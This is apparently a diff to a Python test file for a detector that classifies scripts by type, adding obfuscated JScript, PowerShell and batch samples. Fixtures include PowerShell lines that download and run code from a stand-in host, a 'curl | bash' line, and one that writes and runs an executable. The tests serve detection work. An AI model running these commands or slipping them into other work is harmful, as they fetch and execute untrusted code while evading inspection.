@@ -20,6 +20,8 @@ SCRIPTS = {
         b"const cp = require('child_process');\ncp.exec('id', (e, out) => {\n  console.log(out);\n});\n",
         b"try{var a=WScript.CreateObject('WScript.Shell');a.Run('x');}catch(e){}",
         b"[]['constructor']['constructor']('return this')();",
+        b'var _0x12=["\\x57\\x53"];var _0x3=function(a){return _0x12[a-0x0];};this[_0x3("0x0")][_0x3("0x1")]();',
+        b"[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]()" * 5,
         b"function abc(){\nvar x = 1;\nif (x) {\nreturn x;\n}\n}\nabc();\n",
     ],
     "vbscript": [
@@ -35,11 +37,15 @@ SCRIPTS = {
         b"IEX (New-Object Net.WebClient).DownloadString('http://x.test/a')",
         b"param([string]$a)\n# note\nforeach ($i in 1..3) {\n  Write-Host $i\n}\nStart-Process notepad\n",
         b"powershell -nop -w hidden -enc SQBFAFgA",
+        b"i`e`x (n`ew-ob`ject net.webclient).downloadstring('http://x.test')",
+        b"$b = 77,90,144,0\n[IO.File]::WriteAllBytes('a.exe', $b)\n& ./a.exe\n",
         b"$b=[System.Convert]::FromBase64String('AA==');[Reflection.Assembly]::Load($b)\n",
     ],
     "batch": [
         b"@echo off\r\nset a=b\r\nstart notepad.exe\r\n",
         b"cmd /c start notepad\r\n",
+        b"@e^c^h^o o^f^f\r\ns^t^a^r^t notepad\r\n",
+        b"set a=note\r\nset b=pad\r\n%a%%b%\r\n",
         b"@echo off\r\n:: words\r\nfor %%i in (a b) do (\r\n  echo %%i\r\n)\r\npowershell -c 1\r\nexit /b\r\n",
     ],
     "py": [
@@ -83,6 +89,13 @@ def test_scripts_without_a_name(name: str, script: bytes) -> None:
             assert found == name or {found, name} == {"jscript", "vbscript"}  # one line may be of either
 
 
+def test_a_script_in_utf_16_without_a_mark() -> None:
+    """In either order of octets."""
+    script = "var a = new ActiveXObject('WScript.Shell');\na.Run('x');\n"
+    for codec in ("utf-16-le", "utf-16-be"):
+        assert script_type(script.encode(codec), "application/octet-stream", LOST) == "text/x-script.jscript"
+
+
 def test_an_html_application() -> None:
     """By its element; a page that explains it escapes that."""
     page = b'<html><head><hta:application id=x></head><script language="vbscript">x</script></html>'
@@ -96,6 +109,8 @@ TEXTS = [
     b"# Install\n\nRun this:\n\n```sh\nsudo apt-get install x\ncurl http://x.test | bash\n```\n\n"
     b"Then open it and follow the guide.\n",
     b"name,amount\nA,1\nB,2\n",
+    b"Of x^2+y^2=z^2, a^b^c and `f`g`h`i` the first is a circle.\n",
+    b"[(((())))]" * 10,
     b"2026-01-01 10:00:00 INFO started\n2026-01-01 10:00:01 WARN eval(x) failed\n",
     b'{"a": 1, "b": ["new ActiveXObject(1)"]}',
     b"[1, 2, 3]",
